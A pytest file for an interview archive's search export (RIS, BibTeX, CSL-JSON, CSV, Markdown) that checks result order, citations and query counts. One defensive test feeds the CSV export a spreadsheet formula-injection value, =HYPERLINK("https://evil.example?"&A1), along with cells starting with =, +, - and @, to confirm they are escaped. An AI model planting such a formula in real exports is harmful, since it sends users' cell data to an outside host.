"""All results of a search as one file, read by parsers that are not ours."""

from __future__ import annotations

import csv
import io
import itertools
import json
from pathlib import Path

import pytest
import rispy
from bibtexparser.entrypoint import parse_string
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from archive.citations.presenter import Citation, cite_words
from archive.citations.sources import CitedWords
from archive.models import Interview, Person, Segment, Sentence
from archive.transcript import Transcript, load
from search.pages import views
from search.pages.citing import citations
from search.store import Hit
from tests.conftest import Search
from tests.indexing import build_index
from tests.sources.drafts import Draft, DraftTopic, DraftTurn


def _text(client: Client, extension: str, **asked: str) -> str:
    answer = client.get(f"/search.{extension}", asked)
    assert answer.status_code == 200
    return b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]


def _found(client: Client, **asked: str) -> dict[str, str]:
    """The text of each turn that the search finds, by anchor, in order."""
    answer = json.loads(client.get("/search.json", {"per_page": "100", **asked}).content)
    return {each["anchor"]: each["text"] for each in answer["results"]}


def _squeezed(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("filters", [{}, {"kind": "question"}, {"sort": "order"}])
def test_each_form_has_every_result_in_order_with_its_full_words(
    search: Search, client: Client, filters: dict[str, str]
) -> None:
    asked = {"q": "AI", **filters}
    expected = [(anchor, _squeezed(text)) for anchor, text in _found(client, **asked).items()]
    assert len(expected) > 1
    found = {
        "ris": [(e["id"], e["abstract"]) for e in rispy.loads(_text(client, "ris", **asked))],
        "csl.json": [
            (e["id"], e["abstract"]) for e in json.loads(_text(client, "csl.json", **asked))
        ],
        "csv": [
            (e["anchor"], e["words"])
            for e in csv.DictReader(io.StringIO(_text(client, "csv", **asked).lstrip("\ufeff")))
        ],
    }
    for form, pairs in found.items():
        assert [(key, _squeezed(words)) for key, words in pairs] == expected, form
    library = parse_string(_text(client, "bib", **asked))
    assert not library.failed_blocks
    assert len(library.entries) == len(expected)
    markdown = _text(client, "md", **asked)
    assert all(f"/t/{anchor}/" in markdown for anchor, _ in expected)


def test_the_page_announces_them_with_its_filters(search: Search, client: Client) -> None:
    page = client.get("/en/search/", {"q": "AI", "kind": "question"}).content.decode()
    for extension in ("ris", "bib", "csl.json", "csv", "md", "docx"):
        assert page.count(f'href="/en/search.{extension}?q=AI&amp;kind=question"') == 2


ROUNDS, SLUGS = 6, [f"talk-{number}" for number in range(5)]


@pytest.fixture
def talks(db: None, tmp_path: Path) -> None:
    """Interviews in which the same is asked, each time by as many turns."""
    words = [f"Zeppelins, for the time {number}. They fly." for number in range(ROUNDS)]
    for slug in SLUGS:
        speakers = itertools.cycle(("bob", "eve"))
        turns = [DraftTurn(next(speakers), [each, "Slowly."]) for each in words]
        Draft([DraftTopic("only", "Only", turns)], slug=slug, title=slug).load(tmp_path)
    build_index()


def cited(hits: list[Hit]) -> list[Citation]:
    sources = [each.source for each in citations(hits, "https://a.example")]
    return [each.citation for each in sources if isinstance(each, CitedWords)]


def test_results_that_alternate_between_interviews_are_read_at_once(talks: None) -> None:
    turns = Segment.objects.order_by("order", "topic__interview")
    hits = [Hit(each.pk, 0, {}, (), ()) for each in turns]
    counts = {}
    for number in (1, len(hits)):
        with CaptureQueriesContext(connection) as made:
            found = cited(hits[:number])
        counts[number] = len(made)
        assert [each.key for each in found] == [each.anchor_id for each in turns[:number]]
    assert len(hits) == ROUNDS * len(SLUGS)
    assert counts[1] == counts[len(hits)] <= 6


def test_a_turn_is_cited_as_by_itself(interview: Interview, talks: None) -> None:
    turns = [turn for each in Interview.objects.all() for turn in Transcript(each).turns]
    found = cited([Hit(turn.segment.pk, 0, {}, (), ()) for turn in turns])
    for turn, citation in zip(turns, found, strict=True):
        transcript = load(turn.segment.topic.interview.slug)
        assert citation == cite_words(transcript, turn, turn.anchor, "https://a.example")
    assert "They fly. Slowly." in {each.part.words[-17:] for each in found if each.part}


FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


@pytest.mark.parametrize("begins", "=+-@＝＋－＠")
def test_a_spreadsheet_calculates_nothing_of_what_was_said(
    talks: None, client: Client, begins: str
) -> None:
    said = f"{begins}1+1 zeppelins"
    Sentence.objects.filter(order=0, paragraph__order=0).update(text=said)
    Person.objects.update(name=FORMULA, name_ja="")
    rows = list(csv.DictReader(io.StringIO(_text(client, "csv", q="zeppelins").lstrip("\ufeff"))))
    assert len(rows) == ROUNDS * len(SLUGS)
    for row in rows:
        assert row["words"].startswith(f"'{said}")
        assert not {each[:1] for each in row.values()} & {*"=+-@＝＋－＠\t\r"}
        assert row["speaker"] == f"'{FORMULA}"


@pytest.mark.parametrize("most", [ROUNDS * len(SLUGS), 7])
def test_the_page_says_that_the_files_have_fewer_results(
    talks: None, client: Client, monkeypatch: pytest.MonkeyPatch, most: int
) -> None:
    monkeypatch.setattr(views, "MOST", most)
    page = client.get("/en/search/", {"q": "zeppelins"}).content.decode()
    told = "The files have the first 7 of the 30 results." in page
    assert told == (most == 7)
    assert len(json.loads(_text(client, "csl.json", q="zeppelins"))) == most


def test_a_form_that_there_is_not_and_a_bad_parameter_are_refused(
    search: Search, client: Client
) -> None:
    assert client.get("/search.odt", {"q": "AI"}).status_code == 404
    assert client.get("/search.ris", {"q": "AI", "kind": "no"}).status_code == 400
